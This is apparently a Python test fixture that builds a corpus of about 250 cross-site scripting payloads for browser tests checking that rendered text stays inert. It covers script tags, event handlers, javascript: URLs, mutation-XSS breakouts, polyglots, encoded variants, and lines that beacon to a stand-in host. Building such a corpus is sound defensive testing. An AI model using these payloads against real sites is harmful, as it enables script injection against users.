"""An XSS corpus for the browser tests: markup that must stay inert text wherever it is shown.

Each payload carries its own id N and, if it ever ran, would say so in a way the
test sees: it calls `__xss(N)` (a function the test exposes in every frame),
opens a dialog (`alert(N)`, `confirm(N)`, `prompt(N)`), or requests
`http://xss.invalid/N` (a host that never answers; any request off the test
server counts). Many only act when the browser builds an element from them, so
the test also scans the DOM for script-capable nodes and listens for
Content-Security-Policy violations: a blocked payload is still a payload that
the rendering code turned into markup.

The families: script tags, event handlers (img, svg, body, details, video,
audio, iframe, input, marquee...), javascript:/data:/vbscript: URLs, srcdoc,
template/style/meta refresh/base/link, mutation XSS (breaking out of noscript,
textarea, title, style, xmp, math/svg foreign content), polyglots,
attribute-breaking quotes, entity-encoded, URL-encoded and mixed-case
variants, unicode and hex escapes, SVG animate/set, MathML, CSS expression()
and url(), backticks and template literals (`${}`, `{{}}`), Markdown links and
images (the guidelines go through dom.js's small Markdown renderer),
prototype-pollution-like keys (`__proto__`, `constructor`).

Every payload is one line, NFC-normalised, free of leading, trailing or repeated
whitespace (titles are stripped and side panels collapse whitespace, so the
test can compare them verbatim), and at most 200 characters (a project name's
limit). `payloads()` returns them with their ids.
"""
from __future__ import annotations

import base64
import re
import unicodedata
from dataclasses import dataclass

def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _charcodes(text: str) -> str:
    return ",".join(str(ord(c)) for c in text)


# "{n}" is replaced by the payload's id; a callable gets the id.
_TEMPLATES: list = [
    # --- <script> ------------------------------------------------------------------------
    "<script>__xss({n})</script>",
    "<SCRIPT>__xss({n})</SCRIPT>",
    "<ScRiPt>__xss({n})</sCrIpT>",
    "<script>alert({n})</script>",
    "<script type=\"module\">__xss({n})</script>",
    "<script type=\"text/javascript\">__xss({n});</script>",
    "<script src=\"http://xss.invalid/{n}.js\"></script>",
    "<script src=//xss.invalid/{n}></script>",
    "<script/src=data:,__xss({n})></script>",
    "<script>eval('__x'+'ss({n})')</script>",
    "<script>setTimeout(\"__xss({n})\")</script>",
    "<scr<script>ipt>__xss({n})</scr</script>ipt>",
    "<script>/*</script><script>*/__xss({n})</script>",
    "<<script>__xss({n});//<</script>",
    "</script><script>__xss({n})</script>",
    "<script>document.write('<img src=x onerror=__xss({n})>')</script>",
    "<script>fetch('http://xss.invalid/{n}')</script>",
    "<script>new Image().src='//xss.invalid/{n}'</script>",
    "<script>import('//xss.invalid/{n}.mjs')</script>",
    "<script>\\u005f\\u005fxss({n})</script>",
    # --- event handlers --------------------------------------------------------------------
    "<img src=x onerror=__xss({n})>",
    "<img src=x onerror=\"__xss({n})\">",
    "<img src=\"x\" onerror='__xss({n})'>",
    "<IMG SRC=x OnErRoR=__xss({n})>",
    "<img/src/onerror=__xss({n})>",
    "<img src=x:x onerror=alert({n})>",
    "<img src onerror=__xss({n})>",
    "<img src=x onerror=&#95;&#95;xss({n})>",
    "<img src=x onerror=\\u005f\\u005fxss({n})>",
    "<img src=x onerror=eval('\\x5f\\x5fxss({n})')>",
    "<img src=x onerror=window['__x'+'ss']({n})>",
    "<img src=x onerror=top.__xss({n})>",
    "<img src=x onerror=__xss`{n}`>",
    "<image src=x onerror=__xss({n})>",
    "<img srcset=x onerror=__xss({n})>",
    "<img src=x onerror=prompt({n})>",
    "<img src=x onerror=confirm({n})>",
    "<img src=x onerror=(__xss)({n})>",
    "<img src=x onerror=[{n}].map(__xss)>",
    "<img src=x onerror=Reflect.apply(__xss,null,[{n}])>",
    "<img src=x onerror=window.onerror=__xss;throw+{n}>",
    "<img src=x onerror=Function('__xss({n})')()>",
    "<img src=x onerror=setTimeout('__xss({n})')>",
    lambda n: f"<img src=x onerror=eval(String.fromCharCode({_charcodes(f'__xss({n})')}))>",
    lambda n: f"<img src=x onerror=eval(atob('{_b64(f'__xss({n})')}'))>",
    "<img src=x onerror=with(top)__xss({n})>",
    "<img src=x onerror=(()=>__xss({n}))()>",
    "<img src=x onerror=__xss?.({n})>",
    "<img src=x onerror=self[`__xss`]({n})>",
    "<img src=x onerror=globalThis.__xss({n})>",
    "<img src=x onerror=this.ownerDocument.defaultView.__xss({n})>",
    "<img src=x onerror=navigator.sendBeacon('//xss.invalid/{n}')>",
    "<img src=x onerror=location='//xss.invalid/{n}'>",
    "<img src=x onerror=open('//xss.invalid/{n}')>",
    "<img src=x onerror=import('//xss.invalid/{n}')>",
    "<img src=x onerror=\"document.body.append(Object.assign(document.createElement('script'),{text:'__xss({n})'}))\">",
    "<img src=x onerror=\"\\u0061lert({n})\">",
    "<svg onload=__xss({n})>",
    "<svg/onload=__xss({n})>",
    "<SVG ONLOAD=__xss({n})>",
    "<svg><g onload=__xss({n})></g></svg>",
    "<svg><script>__xss({n})</script></svg>",
    "<svg><script href=data:,__xss({n}) />",
    "<svg><foreignObject><img src=x onerror=__xss({n})></foreignObject></svg>",
    "<svg><image href=//xss.invalid/{n}.png />",
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=__xss({n}) /></svg>#x\" /></svg>",
    "<body onload=__xss({n})>",
    "<body onpageshow=__xss({n})>",
    "<body background=//xss.invalid/{n}>",
    "<details open ontoggle=__xss({n})>",
    "<details/open/ontoggle=\"__xss({n})\">",
    "<video><source onerror=__xss({n})></video>",
    "<video src=x onerror=__xss({n})></video>",
    "<video poster=//xss.invalid/{n}></video>",
    "<audio src=x onerror=__xss({n})>",
    "<iframe onload=__xss({n})></iframe>",
    "<iframe src=x onload=__xss({n})></iframe>",
    "<input autofocus onfocus=__xss({n})>",
    "<input onfocus=__xss({n}) autofocus>",
    "<input type=image src=x onerror=__xss({n})>",
    "<select autofocus onfocus=__xss({n})>",
    "<textarea autofocus onfocus=__xss({n})></textarea>",
    "<keygen autofocus onfocus=__xss({n})>",
    "<div contenteditable autofocus onfocus=__xss({n})>x</div>",
    "<marquee onstart=__xss({n})>x</marquee>",
    "<div onmouseover=__xss({n})>hover</div>",
    "<span onclick=__xss({n})>click</span>",
    "<a onmouseover=__xss({n})>x</a>",
    "<button onclick=__xss({n})>x</button>",
    "<object data=x onerror=__xss({n})></object>",
    "<style onload=__xss({n})></style>",
    "<link rel=stylesheet href=x onerror=__xss({n})>",
    "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=__xss({n})>",
    "<frameset onload=__xss({n})>",
    "<table background=//xss.invalid/{n}>",
    "<picture><source srcset=//xss.invalid/{n}><img></picture>",
    "<img src=//xss.invalid/{n}.png>",
    "<bgsound src=//xss.invalid/{n}>",
    "<track src=//xss.invalid/{n}>",
    "<portal src=//xss.invalid/{n}></portal>",
    "<input type=hidden accesskey=x onclick=__xss({n})>",
    "<isindex type=image src=1 onerror=__xss({n})>",
    "<img src=\"x\" onerror=\"__xss({n})\"",
    # --- javascript:, data:, vbscript: URLs ------------------------------------------------
    "javascript:__xss({n})",
    "JaVaScRiPt:__xss({n})",
    "javascript://%0a__xss({n})",
    "java&#x09;script:__xss({n})",
    "jav&#x0A;ascript:__xss({n})",
    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;__xss({n})",
    "data:text/html,<script>__xss({n})</script>",
    lambda n: f"data:text/html;base64,{_b64(f'<script>parent.__xss({n})</script>')}",
    "vbscript:alert({n})",
    "<a href=\"javascript:__xss({n})\">link</a>",
    "<a href=\" javascript:__xss({n})\">x</a>",
    "<a href=\"&#x6A;avascript:__xss({n})\">x</a>",
    "<a href=\"data:text/html,<script>__xss({n})</script>\">x</a>",
    "<a href=vbscript:alert({n})>x</a>",
    "<a href=\"//xss.invalid/{n}\">x</a>",
    "<area href=javascript:__xss({n})>",
    "<iframe src=\"javascript:parent.__xss({n})\"></iframe>",
    "<iframe src=data:text/html,<script>parent.__xss({n})</script>></iframe>",
    "<frame src=javascript:__xss({n})>",
    "<object data=\"javascript:__xss({n})\"></object>",
    "<object data=\"data:text/html,<script>parent.__xss({n})</script>\"></object>",
    "<embed src=\"javascript:__xss({n})\">",
    "<embed src=//xss.invalid/{n}.swf>",
    "<form action=\"javascript:__xss({n})\"><input type=submit></form>",
    "<form><button formaction=javascript:__xss({n})>x</button></form>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;__xss({n})>",
    # --- srcdoc ------------------------------------------------------------------------------
    "<iframe srcdoc=\"<script>parent.__xss({n})</script>\"></iframe>",
    "<iframe srcdoc=\"&lt;img src=x onerror=parent.__xss({n})&gt;\"></iframe>",
    "<iframe srcdoc='<svg onload=parent.__xss({n})>'></iframe>",
    "<iframe srcdoc=<script>top.__xss({n})</script>></iframe>",
    # --- template, style, meta, base, link -------------------------------------------------
    "<template><img src=x onerror=__xss({n})></template>",
    "<div><template shadowrootmode=open><img src=x onerror=__xss({n})></template></div>",
    "<style>@import 'http://xss.invalid/{n}.css';</style>",
    "<style>body{background:url(//xss.invalid/{n})}</style>",
    "<style>@font-face{font-family:x;src:url(//xss.invalid/{n})}</style>",
    "<style>*{behavior:url(//xss.invalid/{n}.htc)}</style>",
    "<div style=\"background-image:url(javascript:__xss({n}))\">x</div>",
    "<div style=\"width:expression(__xss({n}))\">x</div>",
    "<p style=\"x:expr/**/ession(__xss({n}))\">x</p>",
    "<div style=\"background:url('//xss.invalid/{n}')\">x</div>",
    "<link rel=stylesheet href=//xss.invalid/{n}.css>",
    "<link rel=prefetch href=//xss.invalid/{n}>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:__xss({n})\">",
    "<meta http-equiv=refresh content=\"0;url=http://xss.invalid/{n}\">",
    "<meta http-equiv=\"Set-Cookie\" content=\"xss={n}\">",
    "<meta charset=\"UTF-7\">+ADw-script+AD4-__xss({n})+ADw-/script+AD4-",
    "<base href=\"javascript:__xss({n})//\">",
    "<base href=//xss.invalid/{n}/>",
    # --- mutation XSS: breaking out of raw-text and foreign content --------------------------
    "<noscript><p title=\"</noscript><img src=x onerror=__xss({n})>\">",
    "</noscript><img src=x onerror=__xss({n})>",
    "</textarea><img src=x onerror=__xss({n})>",
    "</title><img src=x onerror=__xss({n})>",
    "</style><img src=x onerror=__xss({n})>",
    "</xmp><img src=x onerror=__xss({n})>",
    "</iframe><img src=x onerror=__xss({n})>",
    "<xmp><p title=\"</xmp><svg/onload=__xss({n})>\">",
    "<noembed><img title=\"</noembed><img src=x onerror=__xss({n})>\">",
    "<noframes><p title=\"</noframes><img src=x onerror=__xss({n})>\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=__xss({n})>",
    "<math><mi><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=__xss({n}) src=1>\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=__xss({n})>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=__xss({n})>",
    "<svg><style><img src=x onerror=__xss({n})></style></svg>",
    "<select><template><style><img src=x onerror=__xss({n})>",
    "<svg><![CDATA[><image xlink:href=\"]]><img src=x onerror=__xss({n})>\"></svg>",
    "<!--<img src=\"--><img src=x onerror=__xss({n})//\">",
    "<!-- --!><img src=x onerror=__xss({n})> -->",
    "<a title=\"a<!--\"><img src=x onerror=__xss({n})>-->",
    "<![CDATA[<img src=x onerror=__xss({n})>]]>",
    "<?xml-stylesheet href=//xss.invalid/{n}?>",
    "<plaintext><img src=x onerror=__xss({n})>",
    "<listing>&lt;img src=x onerror=__xss({n})&gt;</listing>",
    # --- SVG animate/set, MathML -----------------------------------------------------------
    "<svg><animate onbegin=__xss({n}) attributeName=x dur=1s>",
    "<svg><set onbegin=__xss({n}) attributeName=x to=1>",
    "<svg><discard onbegin=__xss({n}) />",
    "<svg><set attributeName=onmouseover to=__xss({n}) />",
    "<svg><animate attributeName=href values=javascript:__xss({n}) /><a><text y=20>x</text></a></svg>",
    "<svg><a xlink:href=\"javascript:__xss({n})\"><text x=20 y=20>X</text></a></svg>",
    "<math href=\"javascript:__xss({n})\">click</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:__xss({n})>x</maction></math>",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=__xss({n})></annotation-xml></math>",
    "<xml><a xmlns:a=\"http://www.w3.org/1999/xhtml\"><a:body onload=\"__xss({n})\"/></a></xml>",
    # --- polyglots and attribute breaking --------------------------------------------------
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=__xss({n}) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=__xss({n})//>\\x3e",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+__xss({n})//'>",
    "'\"--></style></script><svg onload=__xss({n})>",
    "-->'\"/></sCript><deTailS open x=\">\" ontoggle=(co\\u006efirm)({n})>",
    "\"'><img src=x onerror=__xss({n})>",
    "'\"><script>__xss({n})</script>",
    "';__xss({n});//",
    "\";__xss({n});//",
    "\\\";__xss({n});//",
    "</script><svg/onload=__xss({n})>",
    "\" onmouseover=\"__xss({n})",
    "' onmouseover='__xss({n})",
    "\" autofocus onfocus=\"__xss({n})\" x=\"",
    "\"><img src=x onerror=__xss({n})>",
    "'><img src=x onerror=__xss({n})>",
    "`><img src=x onerror=__xss({n})>",
    "\" style=\"background:url(//xss.invalid/{n})",
    "x\" onerror=\"__xss({n})",
    "\" href=\"javascript:__xss({n})",
    "\"/><svg onload=__xss({n})>",
    # --- encoded and escaped ---------------------------------------------------------------
    "&lt;script&gt;__xss({n})&lt;/script&gt;",
    "&#60;script&#62;__xss({n})&#60;/script&#62;",
    "&#x3C;img src=x onerror=__xss({n})&#x3E;",
    "&amp;lt;script&amp;gt;__xss({n})&amp;lt;/script&amp;gt;",
    "%3Cscript%3E__xss({n})%3C%2Fscript%3E",
    "%253Cscript%253E__xss({n})%253C/script%253E",
    "\\u003cscript\\u003e__xss({n})\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=__xss({n})\\x3e",
    "\\74script\\76__xss({n})\\74/script\\76",
    "\\u{3c}svg onload=__xss({n})\\u{3e}",
    "＜script＞__xss({n})＜/script＞",
    "﹤img src=x onerror=__xss({n})﹥",
    "\u202e<img src=x onerror=__xss({n})>",
    "<scr\u200bipt>__xss({n})</scr\u200bipt>",
    "😀<img src=x onerror=__xss({n})>😀",
    "<ímg src=x onerror=__xss({n})>",
    # --- template literals and template engines --------------------------------------------
    "`${__xss({n})}`",
    "${__xss({n})}",
    "#{__xss({n})}",
    "{{__xss({n})}}",
    "{{constructor.constructor('__xss({n})')()}}",
    "<%= __xss({n}) %>",
    "[[${__xss({n})}]]",
    "{{{__xss({n})}}}",
    # --- Markdown ----------------------------------------------------------------------------
    "[click](javascript:__xss({n}))",
    "[click](JaVaScRiPt:__xss({n}))",
    "[click](data:text/html,<script>__xss({n})</script>)",
    "![img](javascript:__xss({n}))",
    "![img](x\" onerror=\"__xss({n}))",
    "<javascript:__xss({n})>",
    "[x][r{n}] [r{n}]: javascript:__xss({n})",
    "[a](javascript://%0d%0a__xss({n}))",
    "[x](#\" onclick=\"__xss({n}))",
    "**<img src=x onerror=__xss({n})>**",
    "*<svg onload=__xss({n})>*",
    "`<script>__xss({n})</script>`",
    "# <script>__xss({n})</script>",
    "- <img src=x onerror=__xss({n})>",
    # --- prototype-pollution-like keys -----------------------------------------------------
    "{\"__proto__\":{\"xss\":{n}}}",
    "__proto__[xss]={n}",
    "constructor[prototype][xss]={n}",
    "{\"constructor\":{\"prototype\":{\"xss\":{n}}}}",
    "__proto__.innerHTML=<img src=x onerror=__xss({n})>",
]


@dataclass(frozen=True)
class Payload:
    id: int
    text: str


def _make() -> list[Payload]:
    out = []
    for index, template in enumerate(_TEMPLATES, start=1):
        if not callable(template):
            assert "{n}" in template, template  # its id, so that a marker says which one ran
        text = template(index) if callable(template) else template.replace("{n}", str(index))
        out.append(Payload(index, unicodedata.normalize("NFC", text)))
    return out


PAYLOADS: list[Payload] = _make()


def payloads() -> list[Payload]:
    return list(PAYLOADS)


_MARKERS = re.compile(r"xss\.invalid/(\d+)|xss\W{0,2}(\d+)|(?:alert|confirm|prompt)\W{0,2}(\d+)")


def payload_id_in(value) -> int | None:
    """The payload id a marker call, dialog message, URL or element carries (None if none)."""
    text = str(value)
    if "xss" not in text and "alert" not in text and "confirm" not in text and "prompt" not in text:
        found = None if "://" in text else re.search(r"\d+", text)  # a call's or a dialog's argument
        return int(found.group()) if found else None
    found = _MARKERS.search(text)
    return int(next(g for g in found.groups() if g)) if found else None


def pack(items: list[Payload], limit: int, sep: str = " ") -> list[list[Payload]]:
    """Payloads in groups whose joined text fits `limit` characters, in order."""
    groups: list[list[Payload]] = [[]]
    for item in items:
        if len(item.text) > limit:
            raise ValueError(f"payload {item.id} is longer than {limit}")
        joined = sep.join(p.text for p in groups[-1] + [item])
        if groups[-1] and len(joined) > limit:
            groups.append([])
        groups[-1].append(item)
    return groups


def joined(group: list[Payload], sep: str = " ") -> str:
    return sep.join(p.text for p in group)


# dom.js's Markdown renderer (markdownToNodes): what a line shows once rendered. A list
# item or heading shows its rest; **x** and *x* show x (in <strong>/<em>).
_INLINE = re.compile(r"\*\*(.+?)\*\*|\*(.+?)\*")


def markdown_inline_text(text: str) -> str:
    return _INLINE.sub(lambda m: m.group(1) if m.group(1) is not None else m.group(2), text)


def _check() -> None:
    texts = [p.text for p in PAYLOADS]
    assert len(set(texts)) == len(texts), "payloads repeat"
    for p in PAYLOADS:
        assert p.text == unicodedata.normalize("NFC", p.text), p
        assert p.text == p.text.strip() and "\n" not in p.text and "\r" not in p.text, p
        assert re.sub(r"\s+", " ", p.text) == p.text, f"whitespace in payload {p.id}"
        assert len(p.text) <= 200, f"payload {p.id} is {len(p.text)} characters"
        assert any(m in p.text for m in ("xss", "x'+'ss", "alert", "lert(", "confirm", "prompt", "firm",
                                         "fromCharCode", "atob", "base64")), \
            f"payload {p.id} has no marker"


_check()
